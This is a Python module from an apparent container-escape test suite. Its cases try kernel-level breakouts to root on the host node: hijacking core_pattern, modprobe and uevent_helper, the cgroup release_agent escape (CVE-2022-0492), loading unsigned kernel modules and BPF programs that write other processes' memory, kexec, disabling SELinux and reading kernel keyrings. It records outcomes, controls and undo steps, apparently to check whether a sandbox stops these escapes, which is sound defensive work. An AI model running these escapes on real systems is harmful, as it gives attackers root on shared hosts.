"""The kernel: its files in /proc and /sys, modules, BPF, tracing, keys, its own helpers."""

from __future__ import annotations

import contextlib
import ctypes
import os
import signal
import struct
import time
from pathlib import Path

from escape import kit
from escape.attempt import CDK, DEEPCE, SECRET, Case, Refused, attempt

SUPER = "superpowered: root on the node; the next boot knows nothing of it"
ROOT_RUNS = "superpowered: it is root on the node already (sheltie)"


def _crash() -> None:
    child = os.fork()
    if child == 0:
        os.kill(os.getpid(), signal.SIGSEGV)
        time.sleep(5)
        os._exit(0)
    os.waitpid(child, 0)
    time.sleep(1)


@attempt(
    "core-pattern",
    f"{CDK}: mount-procfs; deepce: procfs",
    "names a program of its own as the receiver of core dumps, and crashes",
    "the kernel ran the program as root of the node",
    seen=kit.RAN,
    allowed={"admin": ROOT_RUNS},
    short=True,
)
def core_pattern(case: Case) -> str:
    path = "/proc/sys/kernel/core_pattern"
    program = kit.payload(case.token)
    before = Path(path).read_text()
    kit.put(path, f"|{program}")
    try:
        _crash()
    finally:
        kit.put(path, before)
    return "crashed"


@attempt(
    "modprobe-path",
    "kernel.modprobe, a classic of kernel exploits; CDK: mount-procfs",
    "names a program of its own as the kernel's modprobe, and asks for an unknown format",
    "the kernel ran the program as root of the node",
    seen=kit.RAN,
    allowed={"admin": ROOT_RUNS},
)
def modprobe_path(case: Case) -> str:
    path = "/proc/sys/kernel/modprobe"
    program = kit.payload(case.token)
    before = Path(path).read_text()
    kit.put(path, program)
    try:
        odd = Path("/run/odd-format")
        odd.write_bytes(b"\xff\xfe\xfd\xfc" + os.urandom(16))
        odd.chmod(0o755)
        child = os.fork()
        if child == 0:
            with contextlib.suppress(OSError):
                os.execv(odd, ["odd"])
            os._exit(1)
        os.waitpid(child, 0)
        time.sleep(1)
    finally:
        kit.put(path, before)
    return "asked"


@attempt(
    "release-agent",
    f"{CDK}: mount-cgroup; deepce: privileged release_agent (CVE-2022-0492)",
    "mounts a control group hierarchy of version 1 whose release agent is its own program",
    "the kernel ran the program as root of the node",
    seen=kit.RAN,
    allowed={"admin": ROOT_RUNS},
    short=True,
)
def release_agent(case: Case) -> str:
    program = kit.payload(case.token)
    options = f"none,name={case.token}"
    with kit.mounted("cgroup", "cgroup", 0, options) as where:
        kit.put(f"{where}/release_agent", program)
        child = where / "x"
        child.mkdir()
        kit.put(f"{child}/notify_on_release", "1")
        pid = os.fork()
        if pid == 0:
            kit.write(f"{child}/cgroup.procs", str(os.getpid()))
            os._exit(0)
        os.waitpid(pid, 0)
        time.sleep(1)
        with contextlib.suppress(OSError):
            child.rmdir()
    return "released"


@attempt(
    "release-agent-user-namespace",
    f"CVE-2022-0492; {CDK}: abuse-unpriv-userns",
    "the same from a user namespace of its own",
    "the kernel ran the program as root of the node",
    seen=kit.RAN,
    control="fixed in the kernel: a release agent needs the first user namespace",
)
def release_agent_user_namespace(case: Case) -> str:
    program = kit.payload(case.token)
    kit.call("unshare", kit.NEW_USER | kit.NEW_MOUNT | 0x02000000)
    with kit.mounted("cgroup", "cgroup", 0, f"none,name={case.token}") as where:
        kit.put(f"{where}/release_agent", program)
    return "set"


@attempt(
    "sysrq",
    f"{CDK}: mount-procfs",
    "asks the kernel by /proc/sysrq-trigger (for its help; a reboot is one letter away)",
    "the kernel's answer is in the node's log",
    seen="journalctl -k -n 300 --no-pager -o cat | grep -A1 {token} | grep -q sysrq && "
    "echo {token}",
    allowed={"admin": SUPER},
)
def sysrq(case: Case) -> str:
    with contextlib.suppress(OSError):
        kit.write(kit.character(1, 11), f"<4>{case.token}\n")
    kit.write("/proc/sysrq-trigger", "h")
    return "asked"


@attempt(
    "kcore",
    f"{DEEPCE}: procfs",
    "reads the kernel's memory by /proc/kcore",
    "its notes with the kernel's own addresses are read",
)
def kcore(case: Case) -> str:
    with open("/proc/kcore", "rb", buffering=0) as core:
        data = core.read(65536)
    if b"VMCOREINFO" not in data:
        raise Refused(f"{len(data)} bytes, none of the kernel's")
    return data[data.index(b"KERNELOFFSET") :][:30].decode(errors="replace")


@attempt(
    "kallsyms",
    "the first step of kernel exploits",
    "reads the kernel's addresses from /proc/kallsyms",
    "addresses other than zero",
)
def kallsyms(case: Case) -> str:
    with open("/proc/kallsyms") as file:
        line = file.readline()
    if not int(line.split()[0], 16) and not int(line.split()[0], 16):
        with open("/proc/kallsyms") as file:
            line = next((x for x in file if int(x.split()[0], 16) > 1 << 40), "")
    if not line:
        raise Refused("every address is zero")
    return line.strip()


@attempt(
    "kernel-log",
    f"{DEEPCE}: dmesg",
    "reads the kernel's log by syslog(2)",
    "the command line of the boot is in it",
    allowed={"admin": "superpowered: it is for reading logs"},
)
def kernel_log(case: Case) -> str:
    buffer = ctypes.create_string_buffer(1 << 20)
    done = kit.LIBC.klogctl(3, buffer, len(buffer))
    if done < 0:
        raise OSError(ctypes.get_errno(), "syslog")
    if b"Linux version" not in buffer.raw and b"kernel" not in buffer.raw:
        raise Refused(f"{done} bytes, not the boot")
    return f"{done} bytes"


@attempt(
    "sysctl",
    f"{CDK}: evaluation of sysctls",
    "changes a kernel setting of the whole node by its own /proc",
    "vm.admin_reserve_kbytes of the node has another value",
    seen="cat /proc/sys/vm/admin_reserve_kbytes",
    undo="echo 8192 > /proc/sys/vm/admin_reserve_kbytes",
    allowed={"admin": SUPER},
)
def sysctl(case: Case) -> str:
    return kit.put("/proc/sys/vm/admin_reserve_kbytes", str(case.number))


@attempt(
    "uevent-helper",
    f"{CDK}: sysfs; the classic of privileged containers",
    "names a program of its own as the kernel's uevent helper",
    "the kernel ran the program as root of the node",
    seen=kit.RAN,
    control="this kernel has no uevent helper (CONFIG_UEVENT_HELPER is not set)",
)
def uevent_helper(case: Case) -> str:
    with kit.mounted("sysfs", "sysfs") as where:
        kit.put(f"{where}/kernel/uevent_helper", kit.payload(case.token))
        kit.put(f"{where}/class/mem/null/uevent", "change")
        time.sleep(1)
    return "asked"


@attempt(
    "sysfs-write",
    f"{CDK}: sysfs mounted writable",
    "mounts sysfs writable and changes how the node reads its disk",
    "read_ahead_kb of the node's disk has another value",
    seen="cat /sys/block/vda/queue/read_ahead_kb",
    undo="echo 128 > /sys/block/vda/queue/read_ahead_kb",
    allowed={"admin": SUPER},
)
def sysfs_write(case: Case) -> str:
    with kit.mounted("sysfs", "sysfs") as where:
        return kit.put(f"{where}/block/vda/queue/read_ahead_kb", str(case.number))


@attempt(
    "firmware-path",
    "firmware_class.path, a known way to code through the kernel's loader",
    "has the kernel look for firmware in a folder of its own",
    "the module's parameter is the folder",
    seen="cat /sys/module/firmware_class/parameters/path",
    undo="echo -n ' ' > /sys/module/firmware_class/parameters/path",
    allowed={"admin": SUPER},
)
def firmware_path(case: Case) -> str:
    with kit.mounted("sysfs", "sysfs") as where:
        return kit.put(f"{where}/module/firmware_class/parameters/path", f"/{case.token}")


@attempt(
    "pci-config",
    "direct access to devices past the kernel (what lockdown is for)",
    "writes a byte of a device's PCI configuration, with the value it has",
    "the write is taken",
)
def pci_config(case: Case) -> str:
    with kit.mounted("sysfs", "sysfs") as where:
        file = min(where.glob("bus/pci/devices/*/config"))
        descriptor = os.open(file, os.O_RDWR)
        try:
            data = os.pread(descriptor, 1, 0x0C)
            return f"{os.pwrite(descriptor, data, 0x0C)} byte"
        finally:
            os.close(descriptor)


@attempt(
    "module-unsigned",
    f"{CDK}: capabilities (SYS_MODULE)",
    "loads a kernel module whose signature was cut off",
    "the module is loaded",
    seen="grep -q ^dummy /proc/modules && echo {token}",
    undo="/usr/sbin/modprobe -r dummy",
    short=True,
)
def module_unsigned(case: Case) -> str:
    plain = case.module.split(b"~Module signature appended~")[0]
    length = struct.unpack(">I", plain[-4:])[0]
    return _load(plain[: -12 - length])


@attempt(
    "module-signed",
    f"{CDK}: capabilities (SYS_MODULE)",
    "loads a module that Debian signed, brought along",
    "the module is loaded",
    seen="grep -q ^dummy /proc/modules && echo {token}",
    undo="/usr/sbin/modprobe -r dummy",
    allowed={"admin": "superpowered: the module is Debian's own, and lockdown checks that"},
)
def module_signed(case: Case) -> str:
    return _load(case.module)


def _load(data: bytes) -> str:
    buffer = ctypes.create_string_buffer(data, len(data))
    kit.call("init_module", ctypes.c_void_p(ctypes.addressof(buffer)), len(data), b"")
    return "loaded"


def _program(instructions: bytes, kind: int) -> int:
    code = ctypes.create_string_buffer(instructions, len(instructions))
    licence = ctypes.create_string_buffer(b"GPL")
    attr = struct.pack(
        "=IIQQIIQII", kind, len(instructions) // 8, ctypes.addressof(code),
        ctypes.addressof(licence), 0, 0, 0, 0, 0,
    ).ljust(128, b"\0")  # fmt: skip
    return kit.call("bpf", 5, attr, len(attr))


RETURN_0 = struct.pack("=BBhi", 0xB7, 0, 0, 0) + struct.pack("=BBhi", 0x95, 0, 0, 0)


@attempt(
    "bpf-load",
    f"{CDK}: capabilities (BPF, SYS_ADMIN)",
    "loads a BPF program that can be put on any function of the kernel",
    "the kernel takes the program",
    allowed={"admin": SUPER},
)
def bpf_load(case: Case) -> str:
    return f"program {_program(RETURN_0, 2)}"  # BPF_PROG_TYPE_KPROBE


@attempt(
    "bpf-write-user",
    "offensive BPF: bpf_probe_write_user",
    "loads a BPF program that writes other processes' memory",
    "the kernel takes the program",
)
def bpf_write_user(case: Case) -> str:
    code = b"".join(
        struct.pack("=BBhi", *row)
        for row in (
            (0x7A, 10, -8, 0), (0xB7, 1, 0, 0), (0xBF, 0xA2, 0, 0), (0x07, 2, 0, -8),
            (0xB7, 3, 0, 8), (0x85, 0, 0, 36),
        )
    )  # fmt: skip
    return f"program {_program(code + RETURN_0, 2)}"


@attempt(
    "perf-whole-machine",
    f"{CDK}: capabilities (PERFMON)",
    "counts events of every process on a processor",
    "the kernel opens the counter",
    allowed={"admin": SUPER},
)
def perf_whole_machine(case: Case) -> str:
    attr = struct.pack("=IIQ", 1, 112, 0).ljust(112, b"\0")
    return f"counter {kit.call('perf_event_open', attr, -1, 0, -1, 0)}"


@attempt(
    "kexec",
    "kexec: another kernel past the verified boot",
    "loads another kernel by kexec_load",
    "/sys/kernel/kexec_loaded says 1",
)
def kexec(case: Case) -> str:
    page = ctypes.create_string_buffer(4096)
    segment = struct.pack("=QQQQ", ctypes.addressof(page), 4096, 0x1000000, 4096)
    kit.call("kexec_load", 0x1000000, 1, segment, 62 << 16)
    said = Path("/sys/kernel/kexec_loaded").read_text()
    kit.call("kexec_load", 0, 0, None, 62 << 16)
    return kit.told(["loaded"] if said.strip() == "1" else [])


@attempt(
    "iopl",
    f"{CDK}: capabilities (SYS_RAWIO)",
    "takes the right to talk to devices by ports",
    "the kernel grants it",
)
def iopl(case: Case) -> str:
    kit.call("iopl", 3)
    return "level 3"


@attempt(
    "clock",
    f"{CDK}: capabilities (SYS_TIME)",
    "sets the node's clock by one second",
    "the clock has jumped",
    allowed={"admin": SUPER},
)
def clock(case: Case) -> str:
    before = time.time() - time.monotonic()
    time.clock_settime(time.CLOCK_REALTIME, time.time() + 1)
    jump = time.time() - time.monotonic() - before
    time.clock_settime(time.CLOCK_REALTIME, time.time() - 1)
    if jump < 0.5:
        raise Refused(f"{jump:.3f} s")
    return f"{jump:.1f} s"


@attempt(
    "keyring",
    "keyctl-unmask: keys are not in a namespace",
    "reads the keys of the user root, which every container's root is",
    "a key that another container keeps",
    seen=f"{SECRET}key",
    allowed={"admin": "the key is planted from a superpowered container: they are one user"},
)
def keyring(case: Case) -> str:
    buffer = ctypes.create_string_buffer(4096)
    address = ctypes.c_void_p(ctypes.addressof(buffer))
    key = kit.call("keyctl", 10, -4, b"user", b"escape", 0)
    size = kit.call("keyctl", 11, key, address, len(buffer))
    return kit.told(kit.secrets(buffer.raw[:size]))


@attempt(
    "selinux-off",
    "setenforce 0",
    "mounts selinuxfs and writes 0 to its switch",
    "the switch says 0",
    control="SELinux is not there",
    short=True,
)
def selinux_off(case: Case) -> str:
    with kit.mounted("selinuxfs", "selinuxfs") as where:
        return kit.put(f"{where}/enforce", "0")


@attempt(
    "relabel",
    "CVE-2025-52881 aims at labels; any root without SELinux can set them",
    "gives a file of its own the label of the node's first program",
    "the label is read back",
    short=True,
)
def relabel(case: Case) -> str:
    file = f"/run/{case.token}"
    Path(file).write_text("x")
    label = b"system_u:object_r:init_exec_t:s0"
    os.setxattr(file, "security.selinux", label)
    return os.getxattr(file, "security.selinux").decode()
